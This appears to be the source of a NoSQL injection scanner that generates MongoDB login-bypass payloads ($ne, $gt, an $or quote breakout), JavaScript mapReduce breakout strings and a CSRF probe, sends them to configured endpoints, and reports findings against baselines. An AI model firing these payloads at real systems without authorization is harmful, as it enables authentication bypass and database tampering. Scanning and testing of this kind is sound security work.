#include "nosqlab/scanner.hpp"

#include <httplib.h>

#include <ctime>
#include <fstream>
#include <iterator>
#include <random>
#include <sstream>

#include "nosqlab/form_decoder.hpp"

namespace nosqlab::scanner {

namespace {

using Fields = std::vector<std::pair<std::string, std::string>>;

constexpr std::string_view kFormType = "application/x-www-form-urlencoded";
constexpr std::string_view kNoisyValue = "x'\"{}[],;\\ (";

bool success_class(int status) { return status >= 200 && status < 300; }
bool failure_class(int status) { return status >= 400 && status < 600; }

std::string default_bad_value(const EndpointSpec& spec, std::size_t i) {
  if (i < spec.bad_credentials.size()) return spec.bad_credentials[i];
  return "nosqlab_bad_" + spec.params[i];
}

Payload form_payload(AttackClass cls, std::string name, Fields fields, std::string notes) {
  Payload p;
  p.cls = cls;
  p.name = std::move(name);
  p.body = encode_fields(fields);
  p.fields = std::move(fields);
  p.notes = std::move(notes);
  return p;
}

void require_shape(AttackClass cls, const EndpointSpec& spec, EndpointShape shape) {
  if (spec.shape() != shape)
    throw ConfigError(std::string(class_name(cls)) + " does not apply to endpoint " + spec.path);
}

std::vector<Payload> array_payloads(const EndpointSpec& spec) {
  require_shape(AttackClass::ArrayInjection, spec, EndpointShape::Login);
  std::vector<Payload> out;
  for (std::size_t target = 0; target < spec.params.size(); ++target) {
    Fields f;
    for (std::size_t i = 0; i < spec.params.size(); ++i) {
      if (i == target) f.emplace_back(spec.params[i] + "[$ne]", "1");
      else f.emplace_back(spec.params[i], default_bad_value(spec, i));
    }
    out.push_back(form_payload(AttackClass::ArrayInjection, spec.params[target] + "-ne", std::move(f),
                               "$ne operator on one field, known-bad values elsewhere"));
  }
  Fields all, gt;
  for (const std::string& p : spec.params) {
    all.emplace_back(p + "[$ne]", "1");
    gt.emplace_back(p + "[$gt]", "");
  }
  out.push_back(form_payload(AttackClass::ArrayInjection, "all-ne", std::move(all), "$ne on every field"));
  out.push_back(form_payload(AttackClass::ArrayInjection, "all-gt-empty", std::move(gt),
                             "$gt empty string on every field"));
  return out;
}

std::vector<Payload> or_payloads(const EndpointSpec& spec, const CatalogContext& ctx) {
  require_shape(AttackClass::OrInjection, spec, EndpointShape::Login);
  Fields f;
  f.emplace_back(spec.params[0], ctx.known_username + "', $or: [ {}, { 'a': 'a");
  f.emplace_back(spec.params[1], "' } ], $comment: 'successful MongoDB injection");
  for (std::size_t i = 2; i < spec.params.size(); ++i) f.emplace_back(spec.params[i], default_bad_value(spec, i));
  std::vector<Payload> out;
  out.push_back(form_payload(AttackClass::OrInjection, "or-split", std::move(f),
                             "quote breakout split across two fields, $or with an empty clause"));
  return out;
}

std::vector<Payload> js_payloads(const EndpointSpec& spec, const CatalogContext& ctx) {
  require_shape(AttackClass::JsInjection, spec, EndpointShape::Field);
  const std::string& field = spec.params.front();
  const std::string insert = "db." + ctx.marker + ".insert({success:1});";
  std::vector<Payload> out;
  out.push_back(form_payload(AttackClass::JsInjection, "js-breakout-printed",
                             {{field, "a);});function(kv) { return 1; }, { out: 'x'\n});" + insert +
                                          "return\n1;db.stores.mapReduce(function() { { emit(1,1"}},
                             "breakout in its commonly published form (unbalanced for the template)"));
  out.push_back(form_payload(AttackClass::JsInjection, "js-breakout-balanced",
                             {{field, "a);\n  }\n},function(kv) { return 1; }, { out: 'x' });\n" + insert +
                                          "\nreturn 1;db.stores.mapReduce(function() { { emit(1,1"}},
                             "breakout balanced against the map template; inserts into a marker collection"));
  return out;
}

std::vector<Payload> csrf_payloads(const EndpointSpec& spec, const CatalogContext& ctx) {
  require_shape(AttackClass::CsrfProbe, spec, EndpointShape::Insert);
  std::vector<Payload> out;
  out.push_back(form_payload(AttackClass::CsrfProbe, "form-insert", {{"nosqlab_csrf", ctx.marker}},
                             "what a cross-site HTML form can submit"));
  return out;
}

std::string utc_now() {
  const std::time_t t = std::time(nullptr);
  std::tm tm{};
  gmtime_r(&t, &tm);
  char buf[32];
  std::strftime(buf, sizeof buf, "%Y-%m-%dT%H:%M:%SZ", &tm);
  return buf;
}

std::string random_marker() {
  std::random_device rd;
  std::mt19937_64 rng((static_cast<std::uint64_t>(rd()) << 32) ^ rd());
  std::ostringstream out;
  out << "nosqlab_marker_" << std::hex << (rng() & 0xffffffffffffULL);
  return out.str();
}

std::vector<AttackClass> default_classes(EndpointShape shape) {
  switch (shape) {
    case EndpointShape::Login: return {AttackClass::ArrayInjection, AttackClass::OrInjection};
    case EndpointShape::Field: return {AttackClass::JsInjection};
    case EndpointShape::Insert: return {AttackClass::CsrfProbe};
  }
  return {};
}

const Value& member(const Object& o, std::string_view key, std::string_view where) {
  const Value* v = o.find(key);
  if (!v) throw ConfigError(std::string(where) + ": missing \"" + std::string(key) + "\"");
  return *v;
}

std::vector<std::string> text_list(const Value& v, std::string_view where) {
  if (!v.is_array()) throw ConfigError(std::string(where) + " must be an array of strings");
  std::vector<std::string> out;
  for (const Value& item : v.as_array()) {
    if (!item.is_text()) throw ConfigError(std::string(where) + " must be an array of strings");
    out.push_back(item.as_text());
  }
  return out;
}

Value observation_status(const Observation& o) { return Value(static_cast<std::int64_t>(o.status)); }

}  // namespace

std::string_view class_name(AttackClass cls) {
  switch (cls) {
    case AttackClass::ArrayInjection: return "ArrayInjection";
    case AttackClass::OrInjection: return "OrInjection";
    case AttackClass::JsInjection: return "JsInjection";
    case AttackClass::CsrfProbe: return "CsrfProbe";
  }
  return "?";
}

std::optional<AttackClass> parse_class(std::string_view name) {
  for (AttackClass cls : kAllClasses)
    if (class_name(cls) == name) return cls;
  return std::nullopt;
}

EndpointShape EndpointSpec::shape() const {
  if (params.empty()) return EndpointShape::Insert;
  if (params.size() == 1) return EndpointShape::Field;
  return EndpointShape::Login;
}

TargetConfig parse_config(std::string_view json_text) {
  Value root;
  try {
    root = parse_json(json_text);
  } catch (const JsonError& e) {
    throw ConfigError(std::string("config is not valid JSON: ") + e.what());
  }
  if (!root.is_object()) throw ConfigError("config must be a JSON object");
  const Object& o = root.as_object();

  TargetConfig config;
  const Value& base = member(o, "base_url", "config");
  if (!base.is_text() || base.as_text().rfind("http://", 0) != 0)
    throw ConfigError("base_url must be an http:// URL");
  config.base_url = base.as_text();
  while (!config.base_url.empty() && config.base_url.back() == '/') config.base_url.pop_back();
  if (const Value* user = o.find("known_username")) {
    if (!user->is_text()) throw ConfigError("known_username must be a string");
    config.known_username = user->as_text();
  }

  const Value& endpoints = member(o, "endpoints", "config");
  if (!endpoints.is_array() || endpoints.as_array().empty()) throw ConfigError("endpoints must be a non-empty array");
  for (const Value& e : endpoints.as_array()) {
    if (!e.is_object()) throw ConfigError("each endpoint must be an object");
    const Object& eo = e.as_object();
    EndpointSpec spec;
    const Value& path = member(eo, "path", "endpoint");
    if (!path.is_text() || path.as_text().empty() || path.as_text().front() != '/')
      throw ConfigError("endpoint path must start with '/'");
    spec.path = path.as_text();
    if (const Value* m = eo.find("method")) {
      if (!m->is_text() || (m->as_text() != "POST" && m->as_text() != "GET" && m->as_text() != "PUT"))
        throw ConfigError(spec.path + ": method must be POST, GET or PUT");
      spec.method = m->as_text();
    }
    if (const Value* p = eo.find("params")) spec.params = text_list(*p, spec.path + ": params");
    if (const Value* b = eo.find("bad_credentials")) spec.bad_credentials = text_list(*b, spec.path + ": bad_credentials");
    if (spec.bad_credentials.size() > spec.params.size())
      throw ConfigError(spec.path + ": more bad_credentials than params");
    if (const Value* pc = eo.find("enable_post_checks")) {
      if (!pc->is_bool()) throw ConfigError(spec.path + ": enable_post_checks must be a boolean");
      spec.enable_post_checks = pc->as_bool();
    }
    if (const Value* c = eo.find("classes")) {
      for (const std::string& name : text_list(*c, spec.path + ": classes")) {
        auto cls = parse_class(name);
        if (!cls) throw ConfigError(spec.path + ": unknown attack class " + name);
        spec.classes.push_back(*cls);
      }
    } else {
      spec.classes = default_classes(spec.shape());
    }
    const CatalogContext probe_ctx{config.known_username, "nosqlab_marker"};
    for (AttackClass cls : spec.classes) generate_payloads(cls, spec, probe_ctx);  // validates shape
    config.endpoints.push_back(std::move(spec));
  }
  return config;
}

TargetConfig load_config(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) throw ConfigError("cannot read config " + path);
  const std::string text((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  return parse_config(text);
}

std::vector<Payload> generate_payloads(AttackClass cls, const EndpointSpec& spec, const CatalogContext& ctx) {
  switch (cls) {
    case AttackClass::ArrayInjection: return array_payloads(spec);
    case AttackClass::OrInjection: return or_payloads(spec, ctx);
    case AttackClass::JsInjection: return js_payloads(spec, ctx);
    case AttackClass::CsrfProbe: return csrf_payloads(spec, ctx);
  }
  return {};
}

std::string encode_fields(const std::vector<std::pair<std::string, std::string>>& fields) {
  std::string out;
  for (const auto& [key, value] : fields) {
    if (!out.empty()) out += '&';
    out += form::percent_encode(key);
    out += '=';
    out += form::percent_encode(value);
  }
  return out;
}

std::string digest_body(std::string_view body) {
  try {
    const Value v = parse_json(body);
    if (v.is_object())
      if (const Value* s = v.as_object().find("status"); s && s->is_text()) return s->as_text();
    if (v.is_array()) return "<array>";
  } catch (const JsonError&) {
  }
  return "<opaque>";
}

HttpProber::HttpProber(std::string base_url) : base_url_(std::move(base_url)) {}

Observation HttpProber::send(const std::string& method, const std::string& path, const std::string& content_type,
                             const std::string& body) {
  httplib::Client client(base_url_);
  if (!client.is_valid()) throw ProbeError("invalid base URL " + base_url_);
  client.set_connection_timeout(5, 0);
  client.set_read_timeout(5, 0);
  client.set_tcp_nodelay(true);
  client.set_write_timeout(5, 0);
  const auto start = std::chrono::steady_clock::now();
  httplib::Result res;
  if (method == "POST") res = client.Post(path, body, content_type);
  else if (method == "PUT") res = client.Put(path, body, content_type);
  else if (method == "GET") res = client.Get(path);
  else throw ProbeError("unsupported method " + method);
  if (!res) throw ProbeError(method + " " + path + ": " + httplib::to_string(res.error()));
  Observation o;
  o.status = res->status;
  o.body_digest = digest_body(res->body);
  o.latency = std::chrono::duration_cast<std::chrono::milliseconds>(std::chrono::steady_clock::now() - start);
  return o;
}

std::string HttpProber::fetch(const std::string& path) {
  httplib::Client client(base_url_);
  client.set_connection_timeout(5, 0);
  client.set_read_timeout(5, 0);
  client.set_tcp_nodelay(true);
  auto res = client.Get(path);
  if (!res) throw ProbeError("GET " + path + ": " + httplib::to_string(res.error()));
  return res->body;
}

Observation probe(Prober& prober, const EndpointSpec& endpoint, const Payload& payload) {
  return prober.send(endpoint.method, endpoint.path, payload.content_type, payload.body);
}

Baselines collect_baselines(Prober& prober, const EndpointSpec& endpoint) {
  Fields bad, noisy;
  std::string bad_type(kFormType), noisy_type(kFormType);
  switch (endpoint.shape()) {
    case EndpointShape::Login:
    case EndpointShape::Field:
      for (std::size_t i = 0; i < endpoint.params.size(); ++i) {
        bad.emplace_back(endpoint.params[i], default_bad_value(endpoint, i));
        noisy.emplace_back(endpoint.params[i], std::string(kNoisyValue));
      }
      break;
    case EndpointShape::Insert:
      // Neither baseline is a storable document.
      bad_type = "application/json";
      noisy_type = "text/plain";
      break;
  }
  const std::string bad_body = endpoint.shape() == EndpointShape::Insert ? "{" : encode_fields(bad);
  const std::string noisy_body = endpoint.shape() == EndpointShape::Insert ? std::string(kNoisyValue) : encode_fields(noisy);
  Baselines b;
  b.bad_creds = prober.send(endpoint.method, endpoint.path, bad_type, bad_body);
  b.malformed = prober.send(endpoint.method, endpoint.path, noisy_type, noisy_body);
  return b;
}

std::optional<Finding> detect(AttackClass cls, const Baselines& baselines, const Observation& attack,
                              std::optional<bool> post_check_hit) {
  Finding f;
  f.cls = cls;
  f.attack = attack;
  switch (cls) {
    case AttackClass::ArrayInjection:
    case AttackClass::OrInjection:
      if (!success_class(attack.status) || !failure_class(baselines.bad_creds.status)) return std::nullopt;
      f.baseline = baselines.bad_creds;
      return f;
    case AttackClass::JsInjection:
      if (!success_class(attack.status)) return std::nullopt;
      f.baseline = baselines.malformed;
      if (post_check_hit) {
        if (!*post_check_hit) return std::nullopt;
        return f;
      }
      if (!failure_class(baselines.malformed.status)) return std::nullopt;
      f.confidence = "low";
      return f;
    case AttackClass::CsrfProbe:
      if (!success_class(attack.status)) return std::nullopt;
      f.baseline = baselines.bad_creds;
      return f;
  }
  return std::nullopt;
}

Report scan(const TargetConfig& config, Prober& prober, const ScanOptions& options) {
  const auto start = std::chrono::steady_clock::now();
  Report report;
  report.scanned_at = options.scanned_at.value_or(utc_now());
  report.target = config.base_url;
  const std::string run_marker = options.marker.value_or(random_marker());
  std::size_t reachable = 0;

  for (std::size_t index = 0; index < config.endpoints.size(); ++index) {
    const EndpointSpec& endpoint = config.endpoints[index];
    ProbeCount count{endpoint.path, 0};
    const CatalogContext ctx{config.known_username, run_marker + "_" + std::to_string(index)};
    try {
      const Baselines baselines = collect_baselines(prober, endpoint);
      count.probes += 2;
      ++reachable;
      for (AttackClass cls : endpoint.classes) {
        for (const Payload& payload : generate_payloads(cls, endpoint, ctx)) {
          const Observation attack = probe(prober, endpoint, payload);
          ++count.probes;
          std::optional<bool> hit;
          if (cls == AttackClass::JsInjection && endpoint.enable_post_checks && success_class(attack.status)) {
            try {
              const Value state = parse_json(prober.fetch("/__state/" + ctx.marker));
              hit = state.is_array() && !state.as_array().empty();
            } catch (const JsonError&) {
              hit = false;
            }
          }
          if (auto finding = detect(cls, baselines, attack, hit)) {
            finding->endpoint = endpoint.path;
            finding->payload_name = payload.name;
            report.findings.push_back(std::move(*finding));
          }
        }
      }
    } catch (const ProbeError&) {
      report.unreachable.push_back(endpoint.path);
    }
    report.probe_counts.push_back(std::move(count));
  }
  if (reachable == 0) throw ScanError("no endpoint of " + config.base_url + " is reachable");
  report.duration_ms =
      std::chrono::duration_cast<std::chrono::milliseconds>(std::chrono::steady_clock::now() - start).count();
  return report;
}

Report scan(const TargetConfig& config, const ScanOptions& options) {
  HttpProber prober(config.base_url);
  return scan(config, prober, options);
}

std::optional<ReportFormat> parse_format(std::string_view name) {
  if (name == "json") return ReportFormat::Json;
  if (name == "text") return ReportFormat::Text;
  return std::nullopt;
}

std::string render_report(const Report& report, ReportFormat format) {
  if (format == ReportFormat::Json) {
    Array findings;
    for (const Finding& f : report.findings) {
      findings.emplace_back(Object{
          {"class", Value(class_name(f.cls))},
          {"endpoint", Value(f.endpoint)},
          {"payload_name", Value(f.payload_name)},
          {"severity", Value(f.severity)},
          {"confidence", Value(f.confidence)},
          {"evidence", Object{{"baseline_status", observation_status(f.baseline)},
                              {"attack_status", observation_status(f.attack)},
                              {"baseline_digest", Value(f.baseline.body_digest)},
                              {"attack_digest", Value(f.attack.body_digest)}}},
      });
    }
    Array unreachable(report.unreachable.begin(), report.unreachable.end());
    Array counts;
    for (const ProbeCount& c : report.probe_counts)
      counts.emplace_back(Object{{"endpoint", Value(c.endpoint)}, {"probes", Value(c.probes)}});
    const Object root{{"scanned_at", Value(report.scanned_at)},
                      {"target", Value(report.target)},
                      {"findings", Value(std::move(findings))},
                      {"unreachable", Value(std::move(unreachable))},
                      {"probe_counts", Value(std::move(counts))},
                      {"duration_ms", Value(report.duration_ms)}};
    return to_json(Value(root)) + "\n";
  }

  std::ostringstream out;
  out << "scan of " << report.target << " at " << report.scanned_at << "\n";
  for (const Finding& f : report.findings) {
    out << "[" << f.severity << (f.confidence == "low" ? ", low confidence" : "") << "] " << class_name(f.cls)
        << " " << f.endpoint << " payload=" << f.payload_name << " baseline=" << f.baseline.status
        << " attack=" << f.attack.status << "\n";
  }
  for (const std::string& u : report.unreachable) out << "unreachable: " << u << "\n";
  out << report.findings.size() << " findings";
  const char* sep = " (";
  for (AttackClass cls : kAllClasses) {
    std::size_t n = 0;
    for (const Finding& f : report.findings) n += f.cls == cls;
    out << sep << class_name(cls) << ": " << n;
    sep = ", ";
  }
  out << "), " << report.unreachable.size() << " unreachable, " << report.duration_ms << " ms\n";
  return out.str();
}

Report parse_report(std::string_view json_text) {
  const Value root = parse_json(json_text);
  const Object& o = root.as_object();
  auto text = [](const Object& obj, std::string_view key) { return member(obj, key, "report").as_text(); };
  Report r;
  r.scanned_at = text(o, "scanned_at");
  r.target = text(o, "target");
  for (const Value& fv : member(o, "findings", "report").as_array()) {
    const Object& fo = fv.as_object();
    Finding f;
    auto cls = parse_class(text(fo, "class"));
    if (!cls) throw ConfigError("report: unknown class");
    f.cls = *cls;
    f.endpoint = text(fo, "endpoint");
    f.payload_name = text(fo, "payload_name");
    f.severity = text(fo, "severity");
    f.confidence = text(fo, "confidence");
    const Object& ev = member(fo, "evidence", "report").as_object();
    f.baseline.status = static_cast<int>(member(ev, "baseline_status", "report").as_int());
    f.attack.status = static_cast<int>(member(ev, "attack_status", "report").as_int());
    f.baseline.body_digest = text(ev, "baseline_digest");
    f.attack.body_digest = text(ev, "attack_digest");
    r.findings.push_back(std::move(f));
  }
  for (const Value& u : member(o, "unreachable", "report").as_array()) r.unreachable.push_back(u.as_text());
  for (const Value& c : member(o, "probe_counts", "report").as_array())
    r.probe_counts.push_back({text(c.as_object(), "endpoint"), member(c.as_object(), "probes", "report").as_int()});
  r.duration_ms = member(o, "duration_ms", "report").as_int();
  return r;
}

int exit_code(const Report& report) { return report.findings.empty() ? 0 : 1; }

}  // namespace nosqlab::scanner
